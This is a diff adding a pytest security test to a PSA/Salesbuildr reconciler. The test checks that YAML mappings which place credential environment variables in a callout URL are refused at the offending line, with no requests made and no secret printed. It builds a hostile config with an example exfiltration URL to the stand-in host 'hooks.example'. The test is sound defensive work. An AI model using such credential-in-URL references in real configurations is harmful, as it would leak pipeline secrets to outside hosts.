@@ -24,6 +24,7 @@ import pytest
 import yaml
 
 from reconciler.plan.integrity import seal
+from reconciler.psa import registry
 from reconciler.render.escape import terminal
 from tests.psa_suites import PsaRig, psa
 from tests.security.escape_support import (
@@ -231,6 +232,50 @@ def test_a_saved_plan_moved_to_another_host_is_refused_before_any_request(psa: P
         assert refused.returncode != 0, refused.output
         assert (psa.simulator.stats()["requests"], psa.settings_writes()) == before, name
     assert psa.lock_holder() is None
+
+
+def test_a_yaml_referencing_a_credential_is_refused_at_its_line(psa: PsaRig) -> None:
+    """A pull request copying the pipeline's credentials into a callout URL (the PSA's own,
+    Salesbuildr's, or another PSA's) would post them to that URL and print them in every
+    plan: refused at the reference's line before any request, the value never shown."""
+    variables = sorted(name for name, value in psa.sandbox.env.items() if value in psa.case.secrets)
+    others = [v for p in registry.installed().values() if p.name != psa.case.name
+              for v in p.env_vars if "SECRET" in v or "KEY" in v]  # fmt: skip
+    assert variables and others, (variables, others)
+    config = psa.workdir / "mappings.yaml"
+    document = yaml.safe_load(config.read_text())
+    first = next(iter(document[psa.case.section]))
+    other = {others[0]: "RT-OTHER-CREDENTIAL-6d1f0c9e"}
+    for name in [*variables, others[0]]:
+        hostile = dict(document, **{psa.case.section: dict(document[psa.case.section])})
+        hostile[psa.case.section][first] = dict(
+            document[psa.case.section][first] or {}, url=f"https://hooks.example/${{env:{name}}}"
+        )
+        text = yaml.safe_dump(hostile, sort_keys=False, allow_unicode=True)
+        config.write_text(text)
+        line = next(
+            n
+            for n, row in enumerate(text.split("\n"), 1)
+            if f"hooks.example/${{env:{name}}}" in row
+        )
+        for command in ("validate", "plan"):
+            before = (
+                psa.simulator.stats()["requests"],
+                psa.sandbox.salesbuildr.stats()["requests"],
+            )
+            # The sandbox's own values stay set (the rig scans every run for them).
+            refused = psa(command, "mappings.yaml", env=None if name in variables else other)
+            assert refused.returncode == 1, refused.output
+            assert f"mappings.yaml:{line}:" in refused.stderr, refused.output
+            assert (
+                f"${{env:{name}}} names a credential reconcile reads itself" in refused.stderr
+                # the receiver's secret is the operator's own: it may stand in secret fields only
+                or "${env:...} may stand only in secret fields and connection urls"
+                in refused.stderr
+            ), refused.output
+            assert "RT-OTHER-CREDENTIAL-6d1f0c9e" not in refused.output
+            after = (psa.simulator.stats()["requests"], psa.sandbox.salesbuildr.stats()["requests"])
+            assert after == before, (name, command)
 
 
 # --- secrets ------------------------------------------------------------------------------------
